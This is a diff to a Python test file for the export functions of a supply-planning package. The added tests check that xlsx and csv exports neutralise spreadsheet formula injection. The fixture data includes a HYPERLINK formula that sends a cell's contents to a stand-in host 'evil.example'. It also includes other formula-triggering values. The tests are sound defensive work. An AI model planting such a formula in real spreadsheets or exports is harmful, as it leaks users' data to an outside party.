@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
+
 import polars as pl
 import pytest
 
 from medhavi.errors import NotAvailable, UsageError
 from medhavi.planners.pipeline import plan as make
+from medhavi.service import promise_bulk
 from medhavi.workbench import export
 from medhavi.workbench.export import export_plan
 from tests import factories
@@ -76,3 +80,54 @@ def test_an_export_that_fails_leaves_the_old_file(tmp_path, plan, monkeypatch):
         export_plan(plan, place, kind="xlsx")
     assert place.read_bytes() == before
     assert [p.name for p in tmp_path.iterdir()] == ["plan.xlsx"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+TEXTS = (FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "'=1", "https://example.org/a", "A-1")
+
+
+@pytest.fixture(scope="module")
+def odd():
+    """The plan of demands whose ids a spreadsheet would take for something else."""
+    found = factories.snapshot(
+        demands=[{"demand": text, "product": "A", "qty": 1} for text in TEXTS],
+        supply_terms=[{"product": "A"}],
+    )
+    return make(found)
+
+
+@pytest.mark.req("ANA-11")
+def test_a_workbook_holds_no_formula_and_no_link_from_the_data(tmp_path, odd):
+    place = export_plan(odd, tmp_path / "plan.xlsx", kind="xlsx")
+    with zipfile.ZipFile(place) as book:
+        sheets = [name for name in book.namelist() if "worksheets/" in name]
+        pages = {name: book.read(name) for name in sheets}
+    assert [name for name, page in pages.items() if b"<f>" in page] == []
+    assert [name for name, page in pages.items() if b"<hyperlink" in page] == []
+    fulfilment = pl.read_excel(place, sheet_name="fulfilment", engine="calamine")
+    assert set(fulfilment["demand"]) == set(odd.fulfilment["demand"])
+
+
+def test_csv_has_no_cell_that_a_spreadsheet_runs_and_reads_back_equal(tmp_path, odd):
+    place = export_plan(odd, tmp_path / "csv", kind="csv")
+    cells = pl.read_csv(place / "fulfilment.csv", infer_schema=False)["demand"]
+    assert cells.str.contains(r"^[=+\-@\t\r]").sum() == 0
+    assert "A-1" in cells
+    again = type(odd).from_folder(place)
+    assert again.fulfilment.equals(odd.fulfilment)
+    assert again.fingerprint == odd.fingerprint
+
+
+def test_csv_for_programs_can_have_its_texts_as_they_are(tmp_path, odd):
+    place = export_plan(odd, tmp_path / "csv", kind="csv", raw=True)
+    cells = pl.read_csv(place / "fulfilment.csv", infer_schema=False)["demand"]
+    assert FORMULA in cells.to_list()
+
+
+def test_answers_for_a_spreadsheet_hold_no_formula():
+    rows = pl.DataFrame({"demand": [FORMULA, "A"], "qty": [-1.5, 2.0]})
+    text = promise_bulk.as_csv(rows).decode("utf-8-sig")
+    assert text.splitlines()[1].startswith("\"'=HYPERLINK")
+    assert text.splitlines()[1].endswith(",-1.5")
+    with zipfile.ZipFile(io.BytesIO(promise_bulk.as_xlsx(rows))) as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
